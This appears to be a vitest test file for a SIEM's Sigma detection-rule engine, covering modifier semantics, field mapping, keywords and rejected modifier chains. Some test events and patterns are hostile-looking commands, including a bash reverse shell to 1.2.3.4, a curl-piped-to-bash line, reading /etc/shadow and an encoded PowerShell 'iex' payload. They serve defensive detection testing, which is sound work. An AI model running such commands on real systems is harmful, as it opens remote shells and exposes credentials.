import { describe, expect, it } from 'vitest';
import type { SiemEvent } from '../../../src/domain/event';
import { base64Offsets } from '../../../src/detect/sigma/base64';
import { parseModifierChain } from '../../../src/detect/sigma/modifiers';
import { compile, event, rule, ruleYaml } from './helpers';

/** [what, selection body (under `sel:`), event fields, expected match] */
type Row = [string, string, Record<string, SiemEvent[string]>, boolean];

const semantics: Row[] = [
  [
    'plain value is case-insensitive equality',
    `CommandLine: 'WhoAmI'`,
    { 'process.command_line': 'whoami' },
    true,
  ],
  [
    'plain value is not a substring match',
    `CommandLine: 'whoami'`,
    { 'process.command_line': 'whoami -a' },
    false,
  ],
  [
    'cased makes equality case-sensitive',
    `CommandLine|cased: 'WhoAmI'`,
    { 'process.command_line': 'whoami' },
    false,
  ],
  [
    'cased still matches the exact case',
    `CommandLine|cased: 'WhoAmI'`,
    { 'process.command_line': 'WhoAmI' },
    true,
  ],
  [
    'contains',
    `CommandLine|contains: '/DEV/tcp/'`,
    { 'process.command_line': 'bash -i >& /dev/tcp/1.2.3.4/80' },
    true,
  ],
  [
    'contains misses',
    `CommandLine|contains: '/dev/udp/'`,
    { 'process.command_line': 'bash -i >& /dev/tcp/x' },
    false,
  ],
  ['startswith', `Image|startswith: '/tmp/'`, { 'process.executable': '/tmp/x' }, true],
  ['startswith is anchored', `Image|startswith: '/tmp/'`, { 'process.executable': '/var/tmp/x' }, false],
  ['endswith', `Image|endswith: '/nc'`, { 'process.executable': '/usr/bin/nc' }, true],
  ['endswith is anchored', `Image|endswith: '/nc'`, { 'process.executable': '/usr/bin/ncat' }, false],
  ['contains|cased', `CommandLine|contains|cased: ' -O '`, { 'process.command_line': 'wget -o x' }, false],
  ['* wildcard', `Image: '/usr/bin/*sh'`, { 'process.executable': '/usr/bin/bash' }, true],
  [
    '* wildcard anchors both ends',
    `Image: '/usr/bin/*sh'`,
    { 'process.executable': '/usr/bin/bash2' },
    false,
  ],
  ['? is exactly one character', `Image: '/bin/?ash'`, { 'process.executable': '/bin/bash' }, true],
  ['? is not zero characters', `Image: '/bin/?ash'`, { 'process.executable': '/bin/ash' }, false],
  ['several wildcards', `CommandLine: '*curl*|*sh*'`, { 'process.command_line': 'curl -s x | bash' }, true],
  [
    'several wildcards, wrong order',
    `CommandLine: '*sh*|*curl*'`,
    { 'process.command_line': 'curl -s x | bash' },
    false,
  ],
  ['\\* is a literal star', `CommandLine: 'a\\*b'`, { 'process.command_line': 'a*b' }, true],
  ['\\* is not a wildcard', `CommandLine: 'a\\*b'`, { 'process.command_line': 'axxb' }, false],
  ['\\? is a literal question mark', `CommandLine: 'a\\?'`, { 'process.command_line': 'ab' }, false],
  [
    'a lone backslash is literal',
    `CommandLine: 'C:\\Windows'`,
    { 'process.command_line': 'c:\\windows' },
    true,
  ],
  ['\\\\ is one backslash', `CommandLine: 'a\\\\b'`, { 'process.command_line': 'a\\b' }, true],
  [
    'list is OR',
    `Image|endswith:\n      - '/nc'\n      - '/ncat'`,
    { 'process.executable': '/bin/ncat' },
    true,
  ],
  [
    '|all is AND',
    `CommandLine|contains|all:\n      - 'curl'\n      - 'bash'`,
    { 'process.command_line': 'curl x | bash' },
    true,
  ],
  [
    '|all needs every value',
    `CommandLine|contains|all:\n      - 'curl'\n      - 'bash'`,
    { 'process.command_line': 'curl x' },
    false,
  ],
  [
    'fields of a map are AND',
    `Image|endswith: '/nc'\n    CommandLine|contains: ' -e '`,
    { 'process.executable': '/bin/nc', 'process.command_line': 'nc -l' },
    false,
  ],
  ['null: field missing', `CommandLine: null`, { 'process.executable': '/bin/sh' }, true],
  ['null: field null', `CommandLine: null`, { 'process.command_line': null }, true],
  ['null: field present', `CommandLine: null`, { 'process.command_line': 'x' }, false],
  [
    'null in a list is one of the alternatives',
    `CommandLine:\n      - null\n      - 'x'`,
    { 'process.command_line': 'x' },
    true,
  ],
  ['exists: true', `CommandLine|exists: true`, { 'process.command_line': '' }, true],
  ['exists: true, missing', `CommandLine|exists: true`, {}, false],
  ['exists: false, missing', `CommandLine|exists: false`, {}, true],
  ['number equals number', `DestinationPort: 4444`, { 'destination.port': 4444 }, true],
  ['number equals its string form', `DestinationPort: 4444`, { 'destination.port': '4444' }, true],
  ['number is not a prefix', `DestinationPort: 4444`, { 'destination.port': 44444 }, false],
  ['number compares numerically', `DestinationPort: 22`, { 'destination.port': '22.0' }, true],
  ['number keeps its written form', `a1: 0777`, { a1: '0777' }, true],
  ['string value matches a number field', `DestinationPort: '4444'`, { 'destination.port': 4444 }, true],
  ['boolean value matches a boolean field', `file.setuid: true`, { 'file.setuid': true }, true],
  ['boolean value matches its text', `file.setuid: true`, { 'file.setuid': 'True' }, true],
  ['boolean false does not match true', `file.setuid: false`, { 'file.setuid': true }, false],
  ['gt', `process.pid|gt: 100`, { 'process.pid': 101 }, true],
  ['gt is strict', `process.pid|gt: 100`, { 'process.pid': 100 }, false],
  ['gte', `process.pid|gte: 100`, { 'process.pid': '100' }, true],
  ['lt', `process.pid|lt: 100`, { 'process.pid': 99.5 }, true],
  ['lte', `process.pid|lte: 100`, { 'process.pid': 101 }, false],
  ['gt on a non-number', `process.pid|gt: 1`, { 'process.pid': 'abc' }, false],
  ['re is unanchored', `CommandLine|re: '\\s-O\\s'`, { 'process.command_line': 'wget -O /tmp/x' }, true],
  ['re is case-sensitive', `CommandLine|re: '\\s-O\\s'`, { 'process.command_line': 'wget -o /tmp/x' }, false],
  ['re|i', `CommandLine|re|i: '\\s-O\\s'`, { 'process.command_line': 'wget -o /tmp/x' }, true],
  ['re without m: ^ is the text start', `CommandLine|re: '^b'`, { 'process.command_line': 'a\nb' }, false],
  ['re|m: ^ at line starts', `CommandLine|re|m: '^b'`, { 'process.command_line': 'a\nb' }, true],
  ['re without s: . stops at newlines', `CommandLine|re: 'a.b'`, { 'process.command_line': 'a\nb' }, false],
  ['re|s: . crosses newlines', `CommandLine|re|s: 'a.b'`, { 'process.command_line': 'a\nb' }, true],
  ['re list is OR', `CommandLine|re:\n      - '^x'\n      - '^w'`, { 'process.command_line': 'wget' }, true],
  ['cidr IPv4', `DestinationIp|cidr: '10.0.0.0/8'`, { 'destination.ip': '10.20.30.40' }, true],
  ['cidr IPv4 outside', `DestinationIp|cidr: '10.0.0.0/8'`, { 'destination.ip': '11.0.0.1' }, false],
  ['cidr /12 boundary', `DestinationIp|cidr: '172.16.0.0/12'`, { 'destination.ip': '172.32.0.1' }, false],
  ['cidr IPv6', `DestinationIp|cidr: 'fe80::/10'`, { 'destination.ip': 'fe80::1%eth0' }, true],
  ['cidr IPv6 outside', `DestinationIp|cidr: 'fc00::/7'`, { 'destination.ip': '2001:db8::1' }, false],
  [
    'cidr IPv4-mapped IPv6 address',
    `DestinationIp|cidr: '127.0.0.0/8'`,
    { 'destination.ip': '::ffff:127.0.0.1' },
    true,
  ],
  [
    'cidr never matches a non-address',
    `DestinationIp|cidr: '0.0.0.0/0'`,
    { 'destination.ip': 'example.org' },
    false,
  ],
  [
    'base64|contains',
    `CommandLine|base64|contains: 'http://'`,
    { 'process.command_line': 'echo aHR0cDovLw== | base64 -d' },
    true,
  ],
  [
    'base64offset|contains, offset 0',
    `CommandLine|base64offset|contains: 'http://'`,
    { 'process.command_line': 'echo aHR0cDovL2V4YW1wbGU=' },
    true,
  ],
  [
    'base64offset|contains, offset 1',
    `CommandLine|base64offset|contains: 'http://'`,
    { 'process.command_line': `echo ${Buffer.from('xhttp://e').toString('base64')}` },
    true,
  ],
  [
    'base64offset|contains, offset 2',
    `CommandLine|base64offset|contains: 'http://'`,
    { 'process.command_line': `echo ${Buffer.from('xyhttp://e').toString('base64')}` },
    true,
  ],
  [
    'base64offset|contains misses',
    `CommandLine|base64offset|contains: 'http://'`,
    { 'process.command_line': `echo ${Buffer.from('ftp://x').toString('base64')}` },
    false,
  ],
  [
    'wide|base64offset|contains',
    `CommandLine|wide|base64offset|contains: 'iex'`,
    { 'process.command_line': `-enc ${Buffer.from('$a; iex $b', 'utf16le').toString('base64')}` },
    true,
  ],
  [
    'utf16be|base64|contains',
    `CommandLine|utf16be|base64|contains: 'ab'`,
    { 'process.command_line': Buffer.from('ab', 'utf16le').swap16().toString('base64') },
    true,
  ],
  [
    'windash matches /',
    `CommandLine|windash|contains: ' -f '`,
    { 'process.command_line': 'tool /f x' },
    true,
  ],
  [
    'windash matches an en dash',
    `CommandLine|windash|contains: ' -f '`,
    { 'process.command_line': 'tool \u2013f x' },
    true,
  ],
  ['windash keeps -', `CommandLine|windash|contains: ' -f '`, { 'process.command_line': 'tool -f x' }, true],
  [
    'windash: not any character',
    `CommandLine|windash|contains: ' -f '`,
    { 'process.command_line': 'tool +f x' },
    false,
  ],
  [
    'fieldref equal',
    `user.name|fieldref: user.target.name`,
    { 'user.name': 'Root', 'user.target.name': 'root' },
    true,
  ],
  [
    'fieldref different',
    `user.name|fieldref: user.target.name`,
    { 'user.name': 'a', 'user.target.name': 'b' },
    false,
  ],
  [
    'fieldref|cased',
    `user.name|fieldref|cased: user.target.name`,
    { 'user.name': 'Root', 'user.target.name': 'root' },
    false,
  ],
  [
    'fieldref|contains',
    `CommandLine|fieldref|contains: file.path`,
    { 'process.command_line': 'cat /etc/shadow', 'file.path': '/etc/shadow' },
    true,
  ],
  ['fieldref, other field missing', `user.name|fieldref: user.target.name`, { 'user.name': 'a' }, false],
  [
    'an array field matches when any element does',
    `event.category: process`,
    { 'event.category': ['file', 'process'] },
    true,
  ],
  [
    'an array field with no matching element',
    `event.category: network`,
    { 'event.category': ['file', 'process'] },
    false,
  ],
  [
    '|all over an array field',
    `event.type|all:\n      - creation\n      - change`,
    { 'event.type': ['change', 'creation'] },
    true,
  ],
  ['an empty string equals an empty field', `CommandLine: ''`, { 'process.command_line': '' }, true],
  ['an empty string is not any field', `CommandLine: ''`, { 'process.command_line': 'x' }, false],
  [
    'a non-ASCII value lowercases',
    `CommandLine|contains: 'ÄRGER'`,
    { 'process.command_line': 'kein ärger' },
    true,
  ],
];

describe('value modifiers: semantics', () => {
  it.each(semantics)('%s', (_what, selection, fields, expected) => {
    const r = rule(`  sel:\n    ${selection}\n  condition: sel`);
    expect(r.matchesDetection(event(fields))).toBe(expected);
  });
});

describe('field names', () => {
  const cases: [string, string, string][] = [
    ['TargetFilename', 'file.path', '/etc/passwd'],
    ['Image', 'process.executable', '/bin/sh'],
    ['CommandLine', 'process.command_line', 'sh -c id'],
    ['ParentImage', 'process.parent.executable', '/usr/sbin/sshd'],
    ['ParentCommandLine', 'process.parent.command_line', 'sshd: root'],
    ['User', 'user.name', 'root'],
    ['DestinationIp', 'destination.ip', '1.2.3.4'],
    ['DestinationHostname', 'destination.domain', 'pool.example'],
    ['SourceIp', 'source.ip', '10.0.0.1'],
    ['CurrentDirectory', 'process.working_directory', '/tmp'],
    ['LogonId', 'user.audit.id', '0'],
    ['user.name', 'user.name', 'root'],
  ];
  it.each(cases)('%s reads %s', (sigma, ecs, value) => {
    const r = rule(`  sel:\n    ${sigma}: '${value}'\n  condition: sel`);
    expect(r.matchesDetection(event({ [ecs]: value }))).toBe(true);
    expect(r.matchesDetection(event({ [`${ecs}x`]: value }))).toBe(false);
  });

  it('is case-sensitive: "image" is not Image', () => {
    const r = rule(`  sel:\n    image: '/bin/sh'\n  condition: sel`);
    expect(r.matchesDetection(event({ 'process.executable': '/bin/sh' }))).toBe(false);
    expect(r.matchesDetection(event({ image: '/bin/sh' }))).toBe(true);
  });

  it('Initiated follows network.direction, and counts a connected socket without direction as initiated', () => {
    const r = rule(`  sel:\n    Initiated: 'true'\n  condition: sel`);
    expect(r.matchesDetection(event({ 'network.direction': 'outbound' }))).toBe(true);
    expect(r.matchesDetection(event({ 'network.direction': 'egress' }))).toBe(true);
    expect(r.matchesDetection(event({ 'network.direction': 'inbound' }))).toBe(false);
    expect(r.matchesDetection(event({ 'event.action': 'socket-connected' }))).toBe(true);
    expect(r.matchesDetection(event({ 'event.action': 'socket-listening' }))).toBe(false);
    const f = rule(`  sel:\n    Initiated: 'false'\n  condition: sel`);
    expect(f.matchesDetection(event({ 'network.direction': 'ingress' }))).toBe(true);
  });
});

describe('keywords', () => {
  const r = rule(`  keywords:\n    - 'new user'\n    - 'Trojan*FOUND'\n  condition: keywords`);
  it('match the message as substrings, case-insensitively', () => {
    expect(r.matchesDetection(event({ message: 'useradd: New User: name=x' }))).toBe(true);
    expect(r.matchesDetection(event({ message: '/tmp/x: Unix.Trojan.Mirai-1 FOUND' }))).toBe(true);
    expect(r.matchesDetection(event({ message: 'nothing here' }))).toBe(false);
  });
  it('fall back to event.original when there is no message', () => {
    expect(r.matchesDetection(event({ 'event.original': 'Nov 1 h useradd[1]: new user: x' }))).toBe(true);
  });
  it('prefer the message to event.original', () => {
    expect(r.matchesDetection(event({ message: 'other', 'event.original': 'new user' }))).toBe(false);
  });
  it('a single keyword string works too', () => {
    const one = rule(`  keywords: 'REPLACE'\n  condition: keywords`);
    expect(one.matchesDetection(event({ message: 'root: REPLACE (root)' }))).toBe(true);
  });
  it('a list of maps is OR of maps', () => {
    const maps = rule(`  sel:\n    - Image: /bin/a\n    - Image: /bin/b\n  condition: sel`);
    expect(maps.matchesDetection(event({ 'process.executable': '/bin/b' }))).toBe(true);
    expect(maps.matchesDetection(event({ 'process.executable': '/bin/c' }))).toBe(false);
  });
  it('keyword modifiers use an empty field name', () => {
    const all = rule(`  kw:\n    '|all':\n      - 'foo'\n      - 'bar'\n  condition: kw`);
    expect(all.matchesDetection(event({ message: 'bar and foo' }))).toBe(true);
    expect(all.matchesDetection(event({ message: 'bar only' }))).toBe(false);
  });
});

describe('modifier chains: refused with a reason', () => {
  const refused: [string, RegExp][] = [
    ['contains|startswith', /conflicts with "contains"/],
    ['i', /flag of re/],
    ['contains|re', /"re" cannot be combined|cannot be combined with "contains"/],
    ['re|cased', /regexes are case-sensitive already/],
    ['cidr|contains', /cannot be combined/],
    ['base64offset', /followed by contains/],
    ['base64offset|endswith', /followed by contains/],
    ['contains|base64', /must come after base64/],
    ['utf16le|contains', /only base64 or base64offset can follow/],
    ['wide', /only base64 or base64offset can follow/],
    ['base64|windash', /windash must come before base64/],
    ['expand', /processing pipeline/],
    ['contains|contains', /given twice/],
    ['exists|all', /cannot be combined with "all"/],
    ['gt|lt', /cannot be combined/],
    ['startswith|fieldref|re', /cannot be combined/],
    ['base64|base64offset|contains', /cannot be combined/],
    ['nope', /unknown modifier "nope"/],
    ['contains|', /empty modifier/],
  ];
  it.each(refused)('%s', (chain, reason) => {
    const r = parseModifierChain(chain.split('|'));
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.reason).toMatch(reason);
  });

  const accepted = [
    'contains',
    'contains|all',
    'all|contains',
    'contains|cased',
    're|i|m|s',
    'base64offset|contains',
    'wide|base64offset|contains',
    'utf16|base64',
    'windash|contains',
    'contains|windash',
    'fieldref|endswith',
    'cidr|all',
    'gte',
  ];
  it.each(accepted)('%s is accepted', (chain) => {
    expect(parseModifierChain(chain.split('|')).ok).toBe(true);
  });

  it('a refused chain is located at the culprit modifier in the rule file', () => {
    const set = compile(ruleYaml(`  sel:\n    CommandLine|contains|startswith: x\n  condition: sel`));
    const err = set.problems.find((p) => p.severity === 'error');
    // "    CommandLine|contains|startswith" — startswith begins at column 26 of line 9
    expect(err).toMatchObject({ line: 9, col: 26 });
    expect(set.rules).toHaveLength(0);
  });

  it('wrong value types are located errors', () => {
    const cases: [string, RegExp][] = [
      ['CommandLine|exists: maybe', /exists takes true or false/],
      ['process.pid|gt: many', /gt takes a number/],
      ['DestinationIp|cidr: 10.0.0.0/33', /not an IPv4 or IPv6 network/],
      ["CommandLine|base64: 'a*b'", /cannot encode wildcards/],
      ['CommandLine|contains: null', /cannot take modifiers/],
      ['CommandLine:\n      nested: map', /not a mapping/],
      ['CommandLine: []', /empty list/],
    ];
    for (const [selection, reason] of cases) {
      const set = compile(ruleYaml(`  sel:\n    ${selection}\n  condition: sel`));
      const err = set.problems.find((p) => p.severity === 'error');
      expect(err?.message, selection).toMatch(reason);
      expect(err?.line, selection).toBeGreaterThanOrEqual(8);
    }
  });
});

describe('base64offset', () => {
  it('gives the three forms Sigma documents', () => {
    // the Sigma specification's example for "http://"
    expect(base64Offsets(Buffer.from('http://'))).toEqual(['aHR0cDovL', 'h0dHA6Ly', 'odHRwOi8v']);
    expect(base64Offsets(Buffer.from('/bin/bash'))).toEqual(['L2Jpbi9iYXNo', '9iaW4vYmFza', 'vYmluL2Jhc2']);
  });
});
